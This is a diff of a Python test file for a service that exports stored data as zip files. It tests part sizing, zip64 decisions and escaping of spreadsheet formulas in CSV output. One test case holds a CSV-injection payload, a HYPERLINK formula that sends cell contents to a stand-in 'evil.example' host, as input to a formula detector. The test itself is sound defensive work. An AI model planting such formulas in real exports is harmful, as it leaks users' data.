@@ -26,6 +26,7 @@ from isal import isal_zlib
 from consumers.bucket import PartOfUpload, Upload
 from exporter.downloads.jobs import (
     MADE_OF,
+    Cells,
     Job,
     Request,
     State,
@@ -38,14 +39,24 @@ from exporter.downloads.service import DownloadService
 from exporter.downloads.stored_jobs import read_job
 from exporter.lake import manifest as archive
 from exporter.lake.batch import Batch
+from exporter.lake.cells import is_formula, safe
 from exporter.lake.days import Day
 from exporter.lake.formats import Format
 from exporter.lake.manifest import Manifest, Part
 from exporter.store import Column, Days, Values
 from exporter.zips import handler as zipper
 from exporter.zips.failures import UnavailableError
-from exporter.zips.making import MARGIN_S, MAX_PARTS, Budget, begin, make_zip
-from exporter.zips.packing import is_large, kept_format
+from exporter.zips.making import (
+    MARGIN_S,
+    MAX_PARTS,
+    PART_BYTES,
+    PARTS_OF_A_SIZE,
+    Budget,
+    make_zip,
+    part_size,
+    size_of_parts,
+)
+from exporter.zips.packing import is_large, kept_format, most_bytes
 from tests.builders import Context, sqs_event
 from tests.twins import Bucket, Links, client_error, leased, write_job
 
@@ -77,6 +88,7 @@ def put_day(
     kind: str = ".csv.gz",
     revision: int = 1,
     rows: int | None = None,
+    formulas: int | None = 0,
 ) -> None:
     parts = []
     folder = archive.folder(day, kind[1:])
@@ -85,7 +97,8 @@ def put_day(
         key = f"{folder}part-{number:05}-r{revision}{kind}"
         bucket[key] = body
         count = text.count(b"\n") - 1 if rows is None else rows
-        parts.append(Part(key, count, len(body), hashlib.sha256(body).hexdigest(), "", ""))
+        sha256 = hashlib.sha256(body).hexdigest()
+        parts.append(Part(key, count, len(body), sha256, "", "", formulas=formulas))
     columns: tuple[Column, ...] = COLUMNS
     if kind.startswith(".csv") and texts:
         types = dict(COLUMNS)
@@ -262,7 +275,7 @@ def test_what_is_kept_in_the_wanted_format_goes_in_as_it_is(kind: str, format_: 
         (".parquet", {}, "2025-11-20 is kept as parquet: it cannot be had as csv"),
         (".parquet", {"format": ZipFormat.PARQUET, "client": "a"}, "2025-11-20 is kept as parquet: it can"),
         (".csv.gz", {"format": ZipFormat.PARQUET}, "2025-11-20 is kept as csv: it cannot be had as parquet"),
-        (".jsonl.gz", {}, "2025-11-20 is kept as jsonl: it cannot be had as csv"),
+        (".parquet", {"format": ZipFormat.ANY, "client": "a"}, "2025-11-20 is kept as parquet: it can be"),
         (".csv.gz", {"columns": ("time", "nine")}, "no day has a column 'nine'; the columns are client"),
     ],
 )  # fmt: skip
@@ -319,7 +332,7 @@ def test_every_nasty_value_arrives_and_the_zip_tests_clean(program: list[str], t
     bucket = Bucket()
     put_day(bucket, DAY, text.getvalue().replace("\r\n", "\n").encode(), rows=len(NASTY))
     path = tmp_path / "nasty.zip"
-    path.write_bytes(zip_of(bucket, job(1)))
+    path.write_bytes(zip_of(bucket, job(1, cells=Cells.EXACT)))
 
     done = subprocess.run([*program, path], capture_output=True, check=False)
 
@@ -1049,13 +1062,185 @@ def test_a_file_that_ends_early_fails_the_zip(cut: int) -> None:
     assert zip_key(ID) not in bucket
 
 
-def test_what_may_become_larger_than_80_gb_has_larger_parts() -> None:
+def test_parts_grow_with_the_zip_so_that_memory_and_their_number_have_limits() -> None:
+    sizes = [part_size(number, PART_BYTES) for number in range(1, MAX_PARTS + 1)]
+
+    assert list(itertools.accumulate(sizes, initial=0)) == [
+        size_of_parts(count, PART_BYTES) for count in range(MAX_PARTS + 1)
+    ]
+    # https://docs.aws.amazon.com/AmazonS3/latest/userguide/qfacts.html
+    assert (sizes[0], sizes[-1], sum(sizes)) == (8 * MEBIBYTE, 128 * MEBIBYTE, 496_000 * MEBIBYTE)
+    assert sizes == sorted(sizes)
+
+
+def test_a_zip_with_parts_of_several_sizes_is_whole_and_is_resumed_behind_them() -> None:
+    expected = zip_of(lake(count=200), job())
+    bucket = lake(count=200)
+    write_job(bucket, job())
+    messages = [job().to_json()]
+    while messages:
+        worker = Worker(bucket, Hurried(1_500, part_bytes=10))
+        worker.receive(messages.pop())
+        messages += worker.sent
+
+    assert len(expected) > size_of_parts(PARTS_OF_A_SIZE + 10, 10)
+    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})
+
+
+def test_a_zip_that_needs_more_parts_than_s3_takes_fails_with_the_limit() -> None:
+    bucket = lake()
+    worker = Worker(bucket, budget(part_bytes=1))
+
+    assert worker.work(job()) == []
+
+    most = size_of_parts(MAX_PARTS, 1)
+    assert worker.reported[-1].reason == f"the zip has more than {most} bytes: ask for fewer days"
+    assert bucket.uploads == {}
+
+
+def a_part(columns: int, rows: int, text_bytes: int | None) -> tuple[Manifest, Part]:
+    part = Part(KEY, rows, 30 << 20, "", "", "", text_bytes, formulas=0)
+    names = tuple(Column(f"column_number_{number}", "text") for number in range(columns))
+    return Manifest(DAY, 1, names, (part,)), part
+
+
+@pytest.mark.parametrize(
+    ("columns", "rows", "text_bytes", "wanted", "large"),
+    [
+        (20, 800_000, 256 << 20, {}, False),
+        (20, 800_000, None, {}, False),
+        (20, 800_000, 256 << 20, {"format": ZipFormat.JSONL}, False),
+        # Each row may name all columns: a wide part of 256 MiB may become one of more than 4 GiB.
+        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL}, True),
+        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL, "columns": ("column_number_1",)}, False),
+        (1_000, 260_000, 4 << 30, {}, True),
+    ],
+)
+def test_whether_a_file_takes_64_bits_follows_from_the_manifest(
+    columns: int, rows: int, text_bytes: int | None, wanted: dict[str, Any], large: bool
+) -> None:
+    manifest, part = a_part(columns, rows, text_bytes)
+
+    assert is_large(job(1, **wanted).request, manifest, part) is large
+
+
+TEXTS = st.text(st.sampled_from('=-+@"\\\x00\n\r\t,é😀a1'), max_size=6) | st.none()
+
+
+@given(
+    st.sampled_from(["a", "=1+1", "é" * 20, 'q"']).flatmap(
+        lambda name: st.tuples(st.just(name), st.lists(st.tuples(TEXTS, TEXTS), max_size=20))
+    ),
+    st.sampled_from([Format.CSV_GZ, Format.CSV, Format.JSONL_GZ]),
+    st.sampled_from([ZipFormat.CSV, ZipFormat.JSONL, ZipFormat.ANY]),
+    st.sampled_from([(), ("b",)]),
+    st.sampled_from(Cells),
+)
+@settings(deadline=None, max_examples=100)
+def test_cells_are_safe_or_exact_as_asked_and_files_are_no_larger_than_was_foreseen(
+    named: tuple[str, list[tuple[str | None, str | None]]],
+    kind: Format,
+    wanted: ZipFormat,
+    columns: tuple[str, ...],
+    cells: Cells,
+) -> None:
+    name, texts = named
     bucket = Bucket()
-    part = Part(f"{archive.folder(DAY)}part-00000.csv.gz", 1, 1 << 40, "", "", "")
-    bucket[archive.folder(DAY) + archive.MANIFEST] = Manifest(DAY, 1, COLUMNS, (part,)).to_json()
+    known = (Column("time", "timestamp"), Column("_type", "text"), Column(name, "text"), Column("b", "text"))
+    rows: list[Values] = [["2025-11-20 10:00:00.000000000", "t", *pair] for pair in texts]
+    day = Day(bucket, DAY, kind)
+    empties = any("" in pair for pair in texts)
+    parts = tuple(day.write(iter([Batch(rows, empties)] if rows else []), known, 1))
+    manifest = Manifest(DAY, 1, known, parts, kind)
+    day.commit(manifest)
+    asked = job(1, format=wanted, columns=columns, cells=cells)
 
-    plan = begin(job(1), bucket, Budget(lambda: 900))
+    files, in_zip = read(zip_of(bucket, asked))
 
-    assert plan.part_bytes * MAX_PARTS >= 1 << 40
-    assert plan.part_bytes % MEBIBYTE == 0
-    assert is_large(job(1).request, part)
+    assert in_zip["rows"] == len(rows)
+    for part, body in zip(parts, files.values(), strict=True):
+        assert len(body) <= most_bytes(asked.request, manifest, part)
+    if not rows or asked.request.ending(kind) != "csv":
+        return
+    read_back = list(csv.reader(io.StringIO(next(iter(files.values())).decode(), newline="")))
+    names = columns or tuple(column.name for column in known)
+    places = [[column.name for column in known].index(each) for each in names]
+    expected = [list(names), *([row[place] or "" for place in places] for row in rows)]
+    if cells is Cells.SAFE:
+        assert not any(is_formula(cell) for row in read_back for cell in row)
+        expected = [[str(safe(cell)) for cell in row] for row in expected]
+    # The module reads an empty line as a row without values.
+    assert [row or [""] for row in read_back] == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "is_run"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', True),
+        ("@SUM(1)", True),
+        ("+1+1", True),
+        ("-2+3", True),
+        ("\t=1", True),
+        ("\r=1", True),
+        ("＝1", True),  # noqa: RUF001 - a full-width form
+        ("-", False),
+        ("-5", False),
+        ("+4.5e-3", False),
+        ("-.5", False),
+        ("", False),
+        ("a=1", False),
+        ("'=1", False),
+    ],
+)
+def test_a_cell_is_a_formula_unless_it_is_a_number_or_a_dash(text: str, is_run: bool) -> None:
+    assert is_formula(text) is is_run
+    assert safe(text) == (f"'{text}" if is_run else text)
+
+
+@pytest.mark.parametrize(
+    ("formulas", "cells", "copied"),
+    [
+        (0, Cells.SAFE, True),
+        (1, Cells.SAFE, False),
+        (None, Cells.SAFE, False),
+        (1, Cells.EXACT, True),
+        (None, Cells.EXACT, True),
+    ],
+)
+def test_a_part_is_copied_unless_it_has_cells_to_make_safe_or_did_not_count_them(
+    formulas: int | None, cells: Cells, copied: bool
+) -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 500), formulas=formulas)
+    packed = bucket[KEY][10:-8]
+
+    body = zip_of(bucket, job(1, cells=cells))
+
+    assert (packed in body) is copied
+    assert next(iter(read(body)[0].values())) == lines(0, 500)
+
+
+def test_a_range_of_days_in_several_formats_is_given_as_it_is_kept() -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 5))
+    put_day(bucket, DAY + timedelta(days=1), b'{"client":"acme"}\n', kind=".jsonl.gz", rows=1)
+    put_day(bucket, DAY + timedelta(days=2), b"PAR1", kind=".parquet", rows=2)
+
+    files, manifest = read(zip_of(bucket, job(3, format=ZipFormat.ANY)))
+
+    assert files == {
+        "2025-11-20-part-00000.csv": lines(0, 5),
+        "2025-11-21-part-00000.jsonl": b'{"client":"acme"}\n',
+        "2025-11-22-part-00000.parquet": b"PAR1",
+    }
+    assert (manifest["format"], manifest["rows"], manifest["days_not_exported"]) == ("any", 8, [])
+
+
+def test_csv_is_made_of_json_lines_where_a_day_has_only_those() -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 5))
+    put_day(bucket, DAY + timedelta(days=1), b'{"client":"=1","n":-5}\n', kind=".jsonl.gz", rows=1)
+
+    files, _ = read(zip_of(bucket, job(2)))
+
+    assert list(files.values()) == [lines(0, 5), b"time,client,n\n,'=1,-5\n"]
